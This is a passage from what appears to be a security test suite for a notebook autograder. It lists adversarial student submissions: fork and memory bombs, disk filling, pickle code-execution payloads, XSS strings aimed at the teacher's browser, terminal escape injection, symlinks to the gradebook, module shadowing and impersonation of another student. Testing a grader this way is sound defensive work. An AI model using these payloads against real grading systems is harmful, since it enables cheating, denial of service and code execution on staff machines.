while True: hoard.append(np.empty(50_000_000))
""", says=("MemoryError",))  # fmt: skip
attack("T11", "many children with memory", "eight processes hold memory together, each under its own limit", """
import os, time
for _ in range(8):
    if os.fork() == 0:
        hoard = np.ones(10_000_000)
        time.sleep(100); os._exit(0)
time.sleep(100)
""", lost=LATER, says=("占用的内存",))  # fmt: skip
attack("T11", "fork bomb", "forks for ever", """
import os, time
def bomb():
    while True:
        try:
            while True:
                try: os.fork()
                except OSError: time.sleep(0.01)
        except BaseException: continue
bomb()
""", lost=LATER, says=(_TOO_LONG,))  # fmt: skip
attack("T11", "thread bomb", "starts threads until it may not", """
import threading, time
while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
""", says=("can't start new thread",))  # fmt: skip
attack("T11", "disk fill", "fills /tmp, /dev/shm and /dev with bytes, files and holes", """
import os
def fill(folder):
    try:
        for number in range(100):
            with open(f"{folder}/big{number}", "wb") as stream: stream.write(b"x" * 10_000_000)
    except OSError as error: print(error)
    try:
        for number in range(100_000): open(f"{folder}/small{number}", "w").close()
    except OSError as error: print(error)
for folder in ("/tmp", "/dev/shm", "/dev", "/dev/mqueue"): fill(folder)
""", lost={"a04-4": 0.0})  # fmt: skip
attack("T11", "hundred megabytes on one line", "prints 100 MB without a line end, raises an error of 10 MB", """
import sys
sys.stdout.write("x" * 100_000_000)
raise ValueError("y" * 10_000_000)
""", says=("ValueError",))  # fmt: skip
attack("T11", "million displays", "displays for ever", """
from IPython.display import display, HTML
for number in range(1_000_000): display(HTML(f"<b>{number}</b>" * 50))
""", says=(_TOO_LONG,))  # fmt: skip
attack("T11", "flood past the screen", "sends outputs straight to the channel until the room is closed", _CHANNEL + """
import time
for _ in range(200):
    say(frame({"type": "Shown", "output": {"output_type": "stream", "name": "stdout", "text": "x" * 1_000_000}}))
""", lost=LATER, says=(_BETRAYED,))  # fmt: skip
attack("T11", "giant figure", "draws a figure 10,000 pixels wide", """
import matplotlib.pyplot as plt
plt.figure(figsize=(100, 20), dpi=100).add_subplot().plot(np.random.rand(100)); plt.show()
""")  # fmt: skip
attack("T11", "giant answers", "answers of 1e8 rows, of no memory by strides, of digits without end", """
abc = pd.Series(np.broadcast_to(np.float64(1), (100_000_000,)), copy=False)
top20_share = np.broadcast_to(np.float64(0.5), (10**15,))
gini = 10 ** 100_000
""")  # fmt: skip

# ------------------------------------------------------------------------------------------- T12: payloads


def _payloads(document: dict[str, Any]) -> None:
    document["metadata"] |= {
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": "<script>XSS()</script>"}}}
        },
        "title": "<script>XSS()</script>",
        "jupytext": {"text_representation": {"extension": ".py"}},
    }
    for cell in document["cells"]:
        cell["metadata"] |= {"name": "<img src=x onerror=XSS()>", "collapsed": "<script>XSS()</script>"}
        cell["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=XSS()>"}}
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": "<script>XSS()</script>", "application/javascript": "XSS()"},
                }
            ]


attack("T12", "pickles as answers", "answers carry __reduce__, __reduce_ex__, __setstate__ and __arrow_array__ that run code", """
import os
class Run:
    def __reduce__(self): return os.system, ("touch /tmp/PWNED",)
    def __reduce_ex__(self, protocol): return self.__reduce__()
    def __arrow_array__(self, type=None): os.system("touch /tmp/PWNED")
    def __getstate__(self): return {"x": Run}
abc = pd.Series([Run()] * len(rfm_table), index=rfm_table.index)
top20_share = np.array(Run(), dtype=object)
import pickle; gini = pickle.dumps(Run())
""")  # fmt: skip
attack("T12", "payloads in metadata", "scripts in notebook metadata, cell metadata, attachments, stored outputs, widget state",
       edit=_payloads)  # fmt: skip
attack("T12", "scripts in outputs", "HTML, SVG, JavaScript, LaTeX and Markdown outputs that run code in the teacher's browser", """
from IPython.display import display, HTML, SVG, Javascript, Markdown, Latex, IFrame
evil = [
    "<script>XSS()</script>", "<img src=x onerror=XSS()>", "<a href='javascript:XSS()'>x</a>", "<iframe srcdoc='<script>XSS()</script>'></iframe>",
    "<svg onload=XSS()><script>XSS()</script></svg>", "<math><mtext><script>XSS()</script></mtext></math>", "<form action='//XSS'><input></form>",
    "<base href='//XSS'>", "<meta http-equiv=refresh content='0;url=//XSS'>", "<style>@import '//XSS'</style>", "<object data='//XSS'></object>",
    "<details open ontoggle=XSS()>", "<img src='https://XSS/x.png'>", "<div style='background:url(//XSS)'>", "<noscript><p title='</noscript><script>XSS()</script>'>",
]
for text in evil:
    display(HTML(text)); display(Markdown(text)); display(Latex("$" + text + "$"))
    display({"text/plain": text, "text/html": text, "text/latex": text, "image/svg+xml": text, "application/javascript": "XSS()",
             "application/vnd.jupyter.widget-view+json": text, "image/png": text, "application/pdf": text}, raw=True)
    print(text)
display(Markdown("[x](javascript:XSS()) ![x](javascript:XSS()) <javascript:XSS()> [y](data:text/html,XSS)"))
display(Javascript("XSS()"), IFrame("//XSS", 1, 1))
raise ValueError(evil[0] + evil[1])
""")  # fmt: skip


def _scripts_in_memo(document: dict[str, Any]) -> None:
    cell_of(document, "a04-7-memo")["source"] = (
        "<script>XSS()</script>\n\n<img src=x onerror=XSS()>\n\n[x](javascript:XSS())\n\n<iframe src='//XSS'></iframe>\n\n"
        "<a href=javascript:XSS()>x</a> <svg onload=XSS()></svg> <base href='//XSS'> <form action='//XSS'><input></form>\n"
    )
    document["cells"].append(own("<script>XSS()</script><img src=x onerror=XSS()>", "markdown"))
    document["cells"].append(own("<script>XSS()</script>", "raw"))
    document["cells"].append(own("# </pre><script>XSS()</script>\n'<script>XSS()</script>'"))


attack("T12", "scripts in written answers", "scripts in the memo, in own text cells, in raw cells and in code",
       edit=_scripts_in_memo)  # fmt: skip
attack("T12", "terminal codes", "escape codes and markup in errors, outputs and names, for the teacher's terminal", """
esc = chr(27)
print(esc + "[2J" + esc + "]0;evil title" + chr(7) + "[/red][link=http://XSS]x")
class Bad(Exception): pass
Bad.__name__ = esc + "[31m[/nope]"
abc = type(esc + "[2J[bold]", (), {})()
raise Bad(esc + "[2J" + esc + "]0;evil" + chr(7) + "[/nope][link=http://XSS]" + chr(0x9b) + "31m")
""")  # fmt: skip

# ------------------------------------------------------------------------------------------- T15: friends' data

attack("T15", "answers from a friend's data", "the answers are computed right, for the data of another student",
       before="shop = data.draw('ecommerce', 'friend')", lost={**NOTHING, "a04-3": 1.0, "a04-8": 2.0})  # fmt: skip
attack("T15", "claims to be a friend", "sets the id in the environment and patches data.student_id and data.draw", """
import os
os.environ["CRM_STUDENT_ID"] = os.environ["JUPYTERHUB_USER"] = "friend"
data.student_id = lambda: "friend"
draw = data.draw
data.draw = lambda name, student=None, **more: draw(name, "friend")
""")  # fmt: skip

# ------------------------------------------------------------------------------------------- T16: files


def _file(write: Callable[[Path, Scene], None]) -> Callable[[Path, Scene], None]:
    """A submission whose notebook ``write`` makes at the path it is given."""

    def lay(folder: Path, scene: Scene) -> None:
        folder.mkdir()
        write(folder / f"{NOTEBOOK}.ipynb", scene)

    return lay


def _bytes(content: bytes) -> Callable[[Path, Scene], None]:
    return _file(lambda path, _scene: path.write_bytes(content) and None)


def _link(place: Callable[[Scene], object]) -> Callable[[Path, Scene], None]:
    return _file(lambda path, scene: path.symlink_to(str(place(scene))))


def _wrong_name(folder: Path, scene: Scene) -> None:
    folder.mkdir()
    (folder / "[red]../..\x1b[2J作业.ipynb".replace("/", "∕")).write_text(json.dumps(notebook(scene.source)))


def _linked_folder(folder: Path, scene: Scene) -> None:
    folder.symlink_to(scene.folder("friend"), target_is_directory=True)


def _stamp_pipe(folder: Path, scene: Scene) -> None:
    folder.mkdir()
    (folder / f"{NOTEBOOK}.ipynb").write_text(json.dumps(notebook(scene.source)))
    os.mkfifo(folder / "timestamp.txt")


def _cut_off(path: Path, scene: Scene) -> None:
    whole = json.dumps(notebook(scene.source))
    path.write_text(whole[: len(whole) * 2 // 3])


def _beside(folder: Path, scene: Scene) -> None:
    """Files beside the notebook that shadow modules."""
    folder.mkdir()
    (folder / f"{NOTEBOOK}.ipynb").write_text(json.dumps(notebook(scene.source, {"a04-4": RUBBISH})))
    for name in ("json.py", "checks.py", "sitecustomize.py", "crmlab.py", "autograder.py", "pandas.py", "conftest.py"):
        (folder / name).write_text("raise SystemExit('PWNED')")


_NONE = {"lost": NOTHING, "says": (_UNREADABLE,)}
attack("T16", "link to a secret file", "the notebook is a symbolic link to a file of the grader's",
       files=_link(lambda scene: scene.world["files"][3]), **_NONE)  # fmt: skip
attack("T16", "link to the gradebook", "the notebook is a symbolic link to the gradebook",
       files=_link(lambda scene: scene.classroom.db_url.removeprefix("sqlite:///")), **_NONE)  # fmt: skip
attack("T16", "link to a friend's work", "the notebook is a symbolic link to the notebook of a friend",
       files=_link(lambda scene: scene.folder("friend") / f"{NOTEBOOK}.ipynb"), **_NONE)  # fmt: skip
attack("T16", "folder linked to a friend's", "the folder is a symbolic link to the folder of a friend",
       files=_linked_folder, **_NONE)  # fmt: skip
attack("T16", "link to a device", "the notebook is a symbolic link to /dev/zero",
       files=_link(lambda scene: "/dev/zero"), **_NONE)  # fmt: skip
attack("T16", "pipe instead of a file", "the notebook is a pipe that nobody writes to",
       files=_file(lambda path, _scene: os.mkfifo(path)), **_NONE)  # fmt: skip
attack(
    "T16", "folder instead of a file", "the notebook is a folder", files=_file(lambda path, _s: path.mkdir()), **_NONE
)
attack("T16", "pipe as time stamp", "timestamp.txt is a pipe", files=_stamp_pipe)
attack("T16", "huge file", "the file has 40 MB", files=_bytes(b'{"cells": "' + b"x" * 40_000_000 + b'"}'), **_NONE)
attack("T16", "deep nesting", "the file is 100,000 brackets deep", files=_bytes(b"[" * 100_000), **_NONE)
attack("T16", "million cells", "the file has a million cells",
       files=_bytes(b'{"nbformat": 4, "cells": [' + b"{}," * 1_000_000 + b"{}]}"), **_NONE)  # fmt: skip
attack("T16", "cut-off file", "the file ends in the middle", files=_file(_cut_off), **_NONE)
attack("T16", "not utf-8", "the file is not UTF-8", files=_bytes(b'{"cells": ["\xff\xfe"]}'), **_NONE)
attack("T16", "empty file", "the file is empty", files=_bytes(b""), **_NONE)
attack("T16", "numbers without end", "the file holds a number of 5 million digits and NaN",
       files=_bytes(b'{"nbformat": ' + b"9" * 5_000_000 + b', "cells": NaN}'), **_NONE)  # fmt: skip
attack("T16", "wrong name with escape codes", "the file has another name, with escape codes and markup",
       files=_wrong_name, says=("文件名不对",))  # fmt: skip
attack("T16", "modules beside the notebook", "files beside the notebook shadow autograder, pandas, crmlab, json",
       files=_beside, lost={"a04-4": 0.0})  # fmt: skip

# ---------------------------------------------------------------------------------------------- combinations

attack("T10", "daemon that outlives the room", "double-forked daemons in sessions of their own that wait and then write", """
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.2)
                for place in [*WORLD["folders"], "/tmp", "/dev/shm"]:
                    try: open(f"{place}/{WORLD['token']}", "a").write("PWNED")
                    except OSError: pass
        os._exit(0)
""")  # fmt: skip
attack("T14", "everything at once", "hooks, patches, forged outputs, forks and then a kill, in the first cell",
       before=_CHANNEL + """
import os, signal, threading, builtins, sys
builtins.print = lambda *args, **kwargs: None
get_ipython().events.register("pre_run_cell", lambda info: os.fork())
threading.Thread(target=lambda: [say(b"\\x00\\x00\\x00\\x01\\xc1") for _ in range(1000)]).start()
os.kill(-1, signal.SIGKILL)
""", lost=NOTHING, says=(_BETRAYED,))  # fmt: skip
